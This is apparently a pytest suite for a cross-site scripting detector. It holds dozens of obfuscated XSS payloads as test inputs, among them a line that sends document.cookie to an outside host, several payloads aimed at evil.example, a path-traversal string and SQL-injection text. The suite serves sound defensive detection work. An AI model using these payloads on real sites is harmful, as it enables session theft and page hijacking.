"""Cross-site scripting by its grammar: scripts without markup, disguised markup, and markup that does nothing."""

# ruff: noqa: E501 - payloads are not folded
from __future__ import annotations

import itertools

import pytest

from metlo_otel.analysis.attacks import detect, inspect
from metlo_otel.analysis.detectors.inert import without_inert

CERTAIN = {
    "looked up under a name in pieces": (
        'top["al"+"ert"](1)',
        "self['alert'](1)",
        'globalThis["al"+/ert/.source](1)',
        "window[['a'][0]+'lert'](1)",
        "top[8680439..toString(30)](1)",
        "+self[/*a*/'alert'/*b*/](1)//",
        "'-top[8680439..toString(30)](1)-'",
    ),
    "handed on as a value": (
        "[1].find(alert)",
        "Array.from([1],alert)",
        "Reflect.apply(alert,null,[1])",
        "[1,2].with(0,alert).shift()(1)",
        "a=alert,a(1)",
        "alert.call(null,1)",
        "alert?.call(null,1)",
        "[].sort.call`${alert}1`",
        "throw onerror=alert,1",
    ),
    "the maker of functions": (
        "constructor.constructor('alert(1)')()",
        '[]["filter"]["constructor"]("alert(1)")()',
        "{{$on.constructor('alert(1)')()}}",
        "Set.constructor`alert\\x281\\x29```",
    ),
    "tags of templates": ("alert`1`", "setTimeout`alert\\x281\\x29`"),
    "places": ("location='javascript:alert(1)'", "document.location='//a.example/?c='+document.cookie"),
    "handlers": (
        '"onwheel=foo(1)',
        "<x oncontentvisibilityautostatechange=alert(1)>",
        '"Onx=() onMouSeoVer=prompt(1)>',
    ),
    "unseen and lost letters": (
        "<a href=java&Tab;script:alert(1)>x</a>",
        "%BCscript%BEalert(1)%BC/script%BE",
        "<SCR%00IPT>alert(1)</SCR%00IPT>",
        "<img src=x one<b></b>rror=alert(1)>",
        r"<s\Cr\ipt\>alert(1)</s\Cr\ipt\>",
        r"<img\nsrc=x\nonerror=alert(1)>",
        "<scr\u200bipt>alert(1)</scr\u200bipt>",
    ),
    "out of an attribute to somebody else": ('"><iframe src=//evil.example>', "'/><embed src=//evil.example/x.swf>"),
    "a tag in an attribute, for a parser that ends it earlier": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    "texts that are called": ("'ale'+'rt'()", "('\\141lert(1)')()"),
    "XML events": ('<handler xmlns="http://www.w3.org/2001/xml-events" event="load">alert(1)</handler>',),
    "style by numbers": (r"<style>*{background:url('\6A\61vascript:alert(1)')}</style>",),
}
FOUND = (
    "<form action=//evil.example><input type=submit>",
    "<button formaction=//evil.example>x",
    "<link rel=import href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import url(https://fonts.example/css)</style>",
    "style=xss:expression(alert(1))",
    "(()=>{alert(1)})()",
    "1-alert(1)",
    "window.alert(1)",
    "setTimeout('alert(1)',1)",
    "import('//evil.example/x.js')",
    "location=name",
)
QUIET = (
    "const onScrollStop = callback => { clearTimeout(isScrolling); }",
    '"<enum %r> cannot set attribute %r" % (self.clsname, self.name)',
    "return '<%s.%s>' % (self.module, self.name)",
    "Please confirm (or prompt me again): alert(s) are off",
    "$('#id').click(function(){ alert('x'); });",
    "arr.map(x => x * 2).filter(Boolean)",
    "items.forEach(print)",
    "this.constructor(options)",
    "the top [3] results",
    'A "&" character is prepended to "path", thus the argument to eval() is longer',
    "Without <ScriptCmd> using it would be an error",
    "Don't use eval() in your code; it's bad",
    "<p>The &lt;script&gt; element and <code>alert(1)</code></p>",
    '<form action="/search"><input name="q"></form>',
    '<p class="a" style="color:#333">See <a href="https://example.com/a?b=1&amp;c=2">this</a></p>',
)
EDITED = (
    '<h2 class="title">Five things</h2>\n<p>We spent <strong>three days</strong> in it&rsquo;s centre. <a href="https://example.com/a?b=1&amp;c=2" target="_blank">More</a></p>'
    '<ul><li>open</li></ul><p><img src="https://cdn.example.com/1.jpg" alt="A view" width="640"/></p>'
) * 3


@pytest.mark.parametrize(("kind", "value"), [(kind, value) for kind, values in CERTAIN.items() for value in values])
def test_scripts_are_certain(kind: str, value: str) -> None:
    """What nobody writes who has nothing to hide is certain, without any markup as well."""
    assert [each.confidence for each in inspect(value) if each.category == "XSS"] == ["high"], kind


@pytest.mark.parametrize("value", FOUND)
def test_scripts_are_found(value: str) -> None:
    """What may be code that somebody shows, or markup to a foreign host, is reported."""
    assert [each.confidence for each in inspect(value) if each.category == "XSS"] == ["low"]


@pytest.mark.parametrize("value", QUIET)
def test_look_alikes_are_no_script(value: str) -> None:
    """Code, prose and a page's usual markup are no attack."""
    assert not [each for each in inspect(value) if each.category == "XSS"]


def test_every_handler_of_every_element_is_certain() -> None:
    """Whatever the element, the event, the sign between them and the quotes: a handler that acts is certain."""
    events = ("onload", "onfocusin", "onpointerrawupdate", "onwebkitanimationend", "onscrollend")
    parts = itertools.product(
        ("a", "svg", "x-y", "details", "p"), (" ", "/", "\n", "\x0c", '"'), events, ("", "'", '"')
    )
    for element, between, event, quote in parts:
        value = f"<{element}{between}{event}={quote}[1].find(alert){quote}>"
        assert [each.confidence for each in inspect(value) if each.category == "XSS"] == ["high"], value


def test_a_script_that_sites_hand_out_shuts_nobody_out() -> None:
    """A script to embed, loaded over TLS when there is time, is only worth a report; any other is certain."""
    embed = '<blockquote>hi</blockquote> <script async src="https://platform.example/widgets.js"></script>'
    assert [each.confidence for each in inspect(embed)] == ["low"]
    assert [each.confidence for each in inspect(embed.replace("async ", ""))] == ["high"]
    assert [each.confidence for each in inspect(embed.replace("async", "async onload=alert(1)"))] == ["high"]


def test_a_search_on_another_site_is_no_attack() -> None:
    """What stands in the address that a visitor comes from was asked of that site; what is no address is an attack."""
    asked = "https://www.example.com/search?q=%27%20or%201%3D1--"
    assert detect([("reqHeaders.Referer", asked)]) == {}
    assert detect([("reqHeaders.Referer", "' or 1=1--")])


def test_inert_markup_is_taken_out() -> None:
    """What editors of text write leaves nothing but its text, and no line starts where none did."""
    rest = without_inert(EDITED)
    assert "<" not in rest
    assert "&" not in rest
    assert "three days" in rest
    assert inspect(EDITED) == ()


@pytest.mark.parametrize(
    "live",
    [
        '<p onclick="alert(1)">',
        '<a href="javascript:alert(1)">',
        "<a href=//evil.example>",
        '<img src="https://a.example/" onerror=alert(1)>',
        '<p title="a"onclick=alert(1)>',
        '<p style="x:expression(alert(1))">',
        '<a href="https://a.example/../../etc/passwd">',
        '<img src="http://127.0.0.1/">',
        "<script>",
        "&lt;script&gt;",
        "&amp;lt;script",
    ],
)
def test_no_live_markup_is_taken_out(live: str) -> None:
    """A tag that may do anything stays as it is, among any number of tags that do nothing."""
    assert live in without_inert(EDITED + live)
